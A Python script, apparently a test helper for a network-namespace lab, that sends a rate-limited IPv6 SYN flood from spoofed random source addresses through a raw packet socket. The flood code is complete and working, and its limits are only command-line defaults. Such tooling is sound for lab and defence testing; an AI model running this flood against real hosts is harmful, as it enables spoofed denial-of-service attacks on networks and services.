#!/usr/bin/env python3
"""A bounded IPv6 SYN flood from spoofed sources, for the netns lab only
(tests/lab_ipv6_guard.rs; hping3 does not do IPv6).

Usage: synflood6.py IFACE DST_MAC TARGET [--port P] [--sources NET]
                    [--rate N] [--duration S] [--count N]

Writes Ethernet/IPv6/TCP SYNs (with an MSS option, as real stacks send) out
of IFACE (AF_PACKET, so the kernel neither resolves nor filters the spoofed
sources) to TARGET:P at DST_MAC, each from a random address of --sources
and a random port, at up to --rate per second for --duration seconds or
--count SYNs, whichever ends first; then prints "sent N in S s". Root only,
inside a lab namespace: frames leave IFACE and nothing else.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn6(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    mss = struct.pack("!BBH", 2, 4, 1440)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64800, 0, 0) + mss
    pseudo = src + dst + struct.pack("!I", len(tcp)) + b"\0\0\0\x06"
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    return ip6 + tcp


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("iface")
    ap.add_argument("dst_mac")
    ap.add_argument("target")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--sources", default="2001:db8:71:0:8000::/65", help="spoofed source network")
    ap.add_argument("--rate", type=int, default=20000, help="SYNs per second at most")
    ap.add_argument("--duration", type=float, default=5.0, help="seconds at most")
    ap.add_argument("--count", type=int, default=200000, help="SYNs at most")
    a = ap.parse_args()
    net = ipaddress.ip_network(a.sources)
    if net.version != 6 or net.num_addresses < 4 or a.rate <= 0 or a.duration <= 0 or a.count <= 0:
        print("synflood6: --sources must be an IPv6 network of 4 addresses or more; "
              "rate, duration and count must be > 0", file=sys.stderr)
        return 2
    dst = socket.inet_pton(socket.AF_INET6, a.target)
    dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
    src_mac = bytes.fromhex(open(f"/sys/class/net/{a.iface}/address").read().strip().replace(":", ""))
    eth = dst_mac + src_mac + b"\x86\xdd"
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((a.iface, 0))
    except PermissionError:
        print("synflood6: a packet socket needs root", file=sys.stderr)
        return 2
    base, span = int(net.network_address), net.num_addresses - 2
    start = time.monotonic()
    sent = 0
    while sent < a.count:
        elapsed = time.monotonic() - start
        if elapsed >= a.duration:
            break
        if sent > a.rate * elapsed:
            time.sleep(0.001)
            continue
        src = (base + 1 + random.randrange(span)).to_bytes(16, "big")
        frame = eth + syn6(src, dst, random.randrange(1024, 65536), a.port, random.getrandbits(32))
        try:
            s.send(frame)
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.0005)  # the interface queue is full: let it drain
    print(f"sent {sent} in {time.monotonic() - start:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
